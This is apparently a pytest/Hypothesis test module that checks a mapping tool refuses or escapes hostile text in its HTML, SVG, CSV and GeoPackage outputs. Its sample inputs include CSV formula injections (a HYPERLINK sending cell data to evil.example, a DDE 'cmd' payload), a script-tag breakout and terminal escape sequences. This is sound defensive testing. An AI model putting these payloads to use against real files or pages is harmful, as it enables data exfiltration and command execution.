"""Text from data and options, where it lands (:mod:`basemap.text`).

The property test feeds arbitrary Unicode (control characters, lone
surrogates, bidi overrides, markup, formula starts included) into every text
field of a layer and into the title, and checks that each input is either
refused with a :class:`~basemap.errors.BasemapError` or gives outputs that
stay well-formed and hold the text literally: the page's HTML parses and
its data carries the text, the presence chart parses as XML, the CSV
round-trips (a formula start behind OWASP's quote), the GeoPackage reads
back the same text.
"""

from __future__ import annotations

import csv
import io
import json
import xml.dom.minidom
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from basemap.errors import BasemapError, OptionError
from basemap.text import check_text_option, csv_cell, unsafe_char, visible

from .conftest import DATA

SAMPLE = DATA / "valid" / "sample.geojson"
FIELDS = ("name", "label", "kind", "notes", "location_note")
LISTS = ("aliases", "equipment")


def test_unsafe_char_names_the_controls_no_output_holds():
    assert unsafe_char("Termez\x0bbase") == (6, "U+000B (vertical tab)")
    assert unsafe_char("a\x7f")[0] == 1
    assert unsafe_char("a\x85")[0] == 1  # C1
    assert unsafe_char("a\ud800")[0] == 1  # lone surrogate
    assert unsafe_char("a\ufffe")[0] == 1
    assert unsafe_char("tab\tline\nfeed\r é 漢 🙂") is None


def test_check_text_option_refuses_a_control_character():
    with pytest.raises(OptionError) as info:
        check_text_option("--title", "Bases\x0b2005")
    assert "--title" in str(info.value)
    assert "U+000B" in str(info.value)
    assert check_text_option("--title", "Bases 2005") == "Bases 2005"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+1+1", "'+1+1"),
        ("-cmd", "'-cmd"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\tTAB=1+1", "'\tTAB=1+1"),
        ("\rx", "'\rx"),
        ("-67.31", "-67.31"),  # a number stays a number for GIS tools
        ("+3", "+3"),
        ("Kant", "Kant"),
        (67.31, 67.31),
        (None, None),
    ],
)
def test_csv_cell_neutralises_formulas_as_owasp_advises(cell, safe):
    assert csv_cell(cell) == safe


def test_visible_leaves_no_escape_sequence_nor_line_break():
    shown = visible("a\x1b]0;PWNED\x07\x1b[2J\nforged\r\u202eb")
    assert not any(ord(ch) < 32 or 0x7F <= ord(ch) < 0xA0 for ch in shown)
    assert "\u202e" not in shown
    assert "PWNED" in shown and "forged" in shown


# -- the property: every output stays well-formed ------------------------------


class _Strict(HTMLParser):
    """Collects the start tags and the text of the data block."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.data: list[str] = []
        self._in_data = False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self._in_data = ("id", "basemap-data") in attrs

    def handle_endtag(self, tag):
        self._in_data = False

    def handle_data(self, data):
        if self._in_data:
            self.data.append(data)


def _layer(text: str) -> dict:
    layer = json.loads(SAMPLE.read_text(encoding="utf-8"))
    for feature in layer["features"]:
        for field in FIELDS:
            feature["properties"][field] = text
        for field in LISTS:
            feature["properties"][field] = [text]
    return layer


TEXT = st.text(
    alphabet=st.characters(codec=None, exclude_categories=()),
    min_size=1,
    max_size=12,
) | st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTAB=1+1",
        "Termez\x0bbase",
        "\x1b]0;PWNED\x07\x1b[2J",
        "</script><script>window.__pwned=1</script>",
        "a\u202eb",
        "\u200b",
        "]]><x/>&amp;",
        "a\ud800b",
    ]
)


@settings(
    max_examples=20,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(text=TEXT)
@example(text="=HYPERLINK(1)")
@example(text="</script><b>é漢</b>")
@example(text="Termez\x0bbase")
def test_any_text_is_refused_or_stays_well_formed(tmp_path_factory, text):
    import pyogrio

    from basemap.io.context import read_context
    from basemap.io.layers import read_layers
    from basemap.pages.chart import presence_svg
    from basemap.pages.history import site_histories
    from basemap.pipeline import build, listing, write_listing

    folder = tmp_path_factory.mktemp("text")
    layer = folder / "layer.geojson"
    # ensure_ascii keeps a lone surrogate writable (as \\udxxx, as JSON allows)
    layer.write_text(json.dumps(_layer(text)), encoding="utf-8")
    try:
        layers = read_layers(layer)
    except BasemapError as exc:
        # refused, with a message a terminal shows as it is
        assert all(ord(ch) >= 32 or ch == "\n" for ch in visible(str(exc)))
        return
    # accepted: no character any output cannot hold
    assert unsafe_char(text) is None

    page = build(year=2005, data=layer, output=folder / "2005.html")
    parser = _Strict()
    parser.feed(page.read_text(encoding="utf-8"))
    parser.close()
    assert "script" in parser.tags
    data = json.loads("".join(parser.data))
    names = {f["properties"]["periods"][-1]["name"] for f in data["features"]}
    assert names == {text}

    svg = presence_svg(site_histories(layers, read_context()), as_of="2026-12-01")
    xml.dom.minidom.parseString(svg.encode("utf-8"))  # well-formed XML

    rows = list(csv.DictReader(io.StringIO(listing("csv", year=2005, data=layer))))
    assert rows
    for row in rows:
        assert row["name"] == csv_cell(text)
        assert row["kind"] == csv_cell(text)

    gpkg = write_listing(folder / "2005.gpkg", "gpkg", year=2005, data=layer)
    back = pyogrio.read_dataframe(gpkg)
    assert set(back["name"]) == {text}


@settings(max_examples=15, deadline=None)
@given(title=TEXT)
@example(title="</title><b>x")
@example(title="Bases\x0b2005")
@example(title="\tTAB=1+1")
def test_any_title_is_refused_or_escaped(tmp_path_factory, title):
    from basemap.pipeline import build

    out = tmp_path_factory.mktemp("title") / "2005.html"
    try:
        build(year=2005, data=SAMPLE, output=out, title=title)
    except OptionError:  # a control character, or a line break: one line
        assert unsafe_char(title) is not None or any(
            ch in title for ch in "\t\n\r\u2028\u2029"
        )
        assert not out.exists()
        return
    parser = _Strict()
    parser.feed(out.read_text(encoding="utf-8"))
    parser.close()
    assert "<" not in title or title not in out.read_text(encoding="utf-8")
